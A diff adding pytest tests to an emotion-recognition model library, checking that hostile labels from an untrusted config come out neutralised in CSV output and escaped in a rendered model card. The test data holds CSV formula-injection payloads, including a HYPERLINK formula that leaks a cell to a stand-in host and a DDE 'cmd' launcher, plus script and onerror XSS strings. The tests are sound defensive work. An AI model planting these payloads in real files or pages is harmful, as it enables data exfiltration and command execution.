@@ -152,3 +152,104 @@ def test_demo_multipart_uploads_still_pass_and_big_json_is_refused(demo_server) 
         assert http.post("gradio_api/call/predict", content=big).status_code == 413
         deep = b"[" * 100_000 + b"]" * 100_000  # no JSON parser takes it: passed on, refused there
         assert http.post("gradio_api/call/predict", content=deep).status_code != 200
+
+
+# ----------------------------------------------------------------- labels from an untrusted config
+
+HOSTILE_LABELS = [
+    '=HYPERLINK("http://x.example/?leak="&A1,"click")',
+    "<script>alert(1)</script>",
+    "-12",
+    "@SUM(A1:A9)",
+    "+1+cmd|' /C calc'!A0",
+    "'=already quoted",
+    "happy",
+]
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1+1", "'+1+1"),
+        ("-1+2", "'-1+2"),
+        ("@A1", "'@A1"),
+        ("\t=x", "'\t=x"),
+        ("\uff1dx", "'\uff1dx"),
+        ("'=x", "''=x"),
+        ("-12", "-12"),
+        ("+3.5e-2", "+3.5e-2"),
+        ("'abc", "'abc"),
+        ("face.png", "face.png"),
+        (-12, -12),
+        (0.5, 0.5),
+        (None, None),
+    ],
+)
+def test_csv_cells_are_neutralised_losslessly(cell, written) -> None:
+    from glamor_zoo.csv_cells import neutralize_cell, restore_cell
+
+    assert neutralize_cell(cell) == written
+    if isinstance(cell, str):
+        assert restore_cell(written) == cell
+
+
+@pytest.fixture(scope="module")
+def hostile_model(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    import glamor_zoo
+    from glamor_zoo.serialization import save_pretrained
+
+    folder = tmp_path_factory.mktemp("m") / "hostile"
+    return save_pretrained(glamor_zoo.create_model("deep_emotion"), folder, HOSTILE_LABELS)
+
+
+def test_hostile_labels_are_inert_in_predicts_csv(hostile_model: Path, tmp_path: Path, capsys):
+    import csv
+    import io
+
+    face = _face(tmp_path)
+    argv = ["predict", face, "--model", f"local-dir:{hostile_model}", "--detector", "none"]
+    assert main([*argv, "--format", "csv", "--no-fast", *QUICK]) == 0
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@") or c.startswith("-1+")]
+    from glamor_zoo.csv_cells import restore_cell
+
+    assert restore_cell(rows[1][rows[0].index("label")]) in HOSTILE_LABELS
+
+
+def test_hostile_labels_are_inert_in_evals_csv(hostile_model: Path, tmp_path: Path) -> None:
+    import csv
+    import io
+
+    from glamor_zoo.train.compare import load_predictions
+
+    data = tmp_path / "data"
+    (data / "test" / "happy").mkdir(parents=True)
+    for i in range(2):
+        shutil.copy(FACE, data / "test" / "happy" / f"=cmd{i}.png")
+    out = tmp_path / "eval"
+    argv = ["eval", f"local-dir:{hostile_model}", str(data), "--detector", "none"]
+    assert main([*argv, "--output", str(out), *QUICK]) in (0, 1)
+    text = (out / "predictions.csv").read_text()
+    for row in list(csv.reader(io.StringIO(text)))[1:]:
+        assert not [c for c in row if c[:1] in ("=", "+", "@")], row
+    paths, targets, _, classes = load_predictions(out)
+    assert [Path(p).name for p in paths] == ["=cmd0.png", "=cmd1.png"]
+    assert classes[:-1] == HOSTILE_LABELS[:-1] and targets == [classes[-1]] * 2
+
+
+def test_hostile_labels_are_escaped_in_the_model_card(hostile_model: Path) -> None:
+    import json
+
+    from glamor_zoo.hub.card import render_model_card
+
+    config = json.loads((hostile_model / "config.json").read_text())
+    config["pretrained_cfg"]["description"] = "<img src=x onerror=alert(1)>"
+    config["command"] = "```\n<script>alert(2)</script>"
+    card = render_model_card(config, "org/x")
+    body = card.split("---", 2)[2]
+    assert "<script>" not in body.replace("```\n<script>alert(2)", "")
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body
+    assert "<img" not in body and "&lt;img src=x" in body
+    assert "````bash\n```\n<script>alert(2)</script>\n````" in body
